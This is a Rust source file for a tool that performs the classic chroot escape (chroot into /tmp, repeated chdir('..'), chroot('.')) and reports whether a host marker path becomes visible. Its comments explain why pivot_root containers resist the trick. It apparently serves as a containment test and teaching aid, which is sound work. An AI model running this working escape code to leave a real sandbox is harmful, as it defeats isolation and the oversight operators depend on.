//! `chroot-escape MARKER`: the classic way out of a plain chroot.
//!
//! chroot(2) changes only one thing: the process's root, the directory
//! where absolute paths start and where `..` lookups stop. It does not
//! change the working directory, and it does not check that the working
//! directory lies inside the new root. So a root process inside a chroot can:
//!
//! 1. chroot("/tmp"): the root moves *down*, while the working directory
//!    stays where it was, which is now *outside* the root;
//! 2. chdir("..") over and over: the kernel stops `..` only when it reaches
//!    the process's root, and the working directory will never meet the new
//!    root on its way up, so it climbs to the real top of the file system;
//! 3. chroot("."): make that top the root again. The original chroot is
//!    gone.
//!
//! A container that uses pivot_root instead, and then detaches the old root,
//! is not fooled: its root is now the root mount of its own mount
//! namespace, and `..` at the top of a namespace's mount tree stays where it
//! is. The host's file system is simply no longer attached anywhere above,
//! so step 2 ends at the container's own "/" and MARKER stays out of reach.
//!
//! Exit status: 0 escaped, 1 contained, 2 error.

use std::fs;
use std::io;
use std::os::unix::fs::chroot;
use std::path::Path;
use std::process::ExitCode;

/// More than any real path is deep; extra `..` at the top are harmless.
const CLIMB: usize = 64;

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [marker] = args.as_slice() else {
        eprintln!("usage: chroot-escape MARKER   (MARKER: an absolute path on the host)");
        return ExitCode::from(2);
    };
    if !marker.starts_with('/') {
        eprintln!("chroot-escape: MARKER must be an absolute path, got {marker:?}");
        return ExitCode::from(2);
    }
    // SAFETY: geteuid has no preconditions and cannot fail.
    let euid = unsafe { libc::geteuid() };
    if euid != 0 {
        eprintln!("chroot-escape: must run as root (chroot needs CAP_SYS_CHROOT), euid is {euid}");
        return ExitCode::from(2);
    }
    if let Err(e) = escape() {
        eprintln!("chroot-escape: {e}");
        return ExitCode::from(2);
    }
    // symlink_metadata: the marker itself counts, even a dangling symlink.
    if fs::symlink_metadata(marker).is_ok() {
        println!("escaped: {marker} is visible, this root can be left");
        ExitCode::SUCCESS
    } else {
        println!("contained: {marker} is not visible");
        ExitCode::from(1)
    }
}

fn escape() -> Result<(), String> {
    let inner = Path::new("/tmp");
    match fs::create_dir(inner) {
        Ok(()) => {}
        Err(e) if e.kind() == io::ErrorKind::AlreadyExists => {}
        Err(e) => return Err(format!("mkdir /tmp: {e}")),
    }
    chroot(inner).map_err(|e| format!("chroot /tmp: {e}"))?;
    for _ in 0..CLIMB {
        std::env::set_current_dir("..").map_err(|e| format!("chdir ..: {e}"))?;
    }
    chroot(".").map_err(|e| format!("chroot .: {e}"))?;
    // Not needed for the check, but leaves the process in a sane state.
    std::env::set_current_dir("/").map_err(|e| format!("chdir /: {e}"))
}
